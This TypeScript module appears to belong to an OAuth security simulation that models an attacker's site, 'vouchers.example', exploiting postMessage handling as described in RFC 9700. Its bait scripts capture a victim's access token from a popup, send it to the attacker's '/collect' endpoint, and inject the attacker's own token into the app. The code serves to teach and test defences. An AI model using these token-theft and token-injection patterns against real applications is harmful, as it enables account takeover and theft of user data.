/** The attacker: a site that opens the app in a small window, listens and speaks, and a computer of their own (RFC 9700 §4.17.1). */
import { base64url } from 'jose'
import { type HttpHandler, html, json, parseForm } from '../../http/index.ts'
import type { SignInConfig } from '../../scenario-kit/client-code/tab-sign-in.ts'
import { type PlainBrowser, redirectOf } from '../../scenario-kit/parties/plain-browser.ts'
import type { ServerGlobals, TabGlobals } from '../../simulation/index.ts'
import { baitPage } from './pages.ts'

/** URL origin of the attacker’s site. */
export const VOUCHERS = 'https://vouchers.example'

/** What the attacker holds. */
export interface Loot {
  /** Came in from the site’s page. */
  stolen?: string
  /** Of the attacker’s own account. */
  own?: string
  photos?: string
}

/** The site’s server: the page, the token that it plants, and what its script sends home. */
export function createVouchers(loot: Loot): HttpHandler {
  return async ({ method, url, body }) => {
    // #region bait
    switch (`${method} ${new URL(url).pathname}`) {
      case 'GET /':
        return html(200, baitPage())
      case 'GET /own-token':
        return json(200, { access_token: loot.own, scope: 'photos:read photos:write' })
      case 'POST /collect':
        loot.stolen = new Map(parseForm(body)).get('access_token') ?? ''
        return json(200, {})
      default:
        return html(404, 'Not Found')
    }
    // #endregion
  }
}

/** The site’s script: has the app sign Ada in, and waits for what the popup says. */
export async function listen({ addEventListener, fetch, open }: TabGlobals, app: string): Promise<void> {
  // #region bait
  const said = new Promise<string>((resolve) => {
    addEventListener('message', ({ data }) => resolve(data))
  })
  open(`${app}/sign-in`)
  const { access_token } = JSON.parse(await said)
  await fetch('/collect', { method: 'POST', body: new URLSearchParams({ access_token }) })
  // #endregion
}

const UNTIL_LOADED_MS = 2000

/** The site’s script: opens the app, and tells it that this is the token. */
export async function plant({ fetch, open, setTimeout }: TabGlobals, app: string): Promise<void> {
  // #region bait
  const popup = open(app)
  const token = await (await fetch('/own-token')).text()
  await new Promise<void>((resolve) => {
    setTimeout(resolve, UNTIL_LOADED_MS)
  })
  popup?.postMessage(token, '*')
  // #endregion
}

/** Gets a token of the attacker’s own account, as the app would. */
export async function signInThemselves(
  globals: ServerGlobals,
  browser: PlainBrowser,
  config: SignInConfig & { readonly scope: string },
  credentials: Readonly<Record<'username' | 'password', string>>,
): Promise<string> {
  // #region own-sign-in
  const { crypto, fetch } = globals
  const code_verifier = base64url.encode(crypto.getRandomValues(new Uint8Array(32)))
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(code_verifier))
  const { client_id, redirect_uri, scope } = config
  const request = new URL(config.authorization_endpoint)
  request.search = new URLSearchParams({
    response_type: 'code',
    client_id,
    redirect_uri,
    scope,
    code_challenge: base64url.encode(new Uint8Array(digest)),
    code_challenge_method: 'S256',
  }).toString()
  const onward = redirectOf(await browser.submit(await browser.get(request.href), credentials))
  const answer = redirectOf(await browser.submit(await browser.get(onward.href), { decision: 'approve' }))
  const code = answer.searchParams.get('code') ?? ''
  const body = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri, client_id, code_verifier })
  return (await (await fetch(config.token_endpoint, { method: 'POST', body })).json()).access_token
  // #endregion
}

/** Reads the photos of the account that the token opens. */
export async function readPhotos({ fetch }: ServerGlobals, api: string, access_token: string): Promise<string> {
  // #region read-photos
  const response = await fetch(new URL('/photos', api), { headers: { authorization: `Bearer ${access_token}` } })
  return response.text()
  // #endregion
}
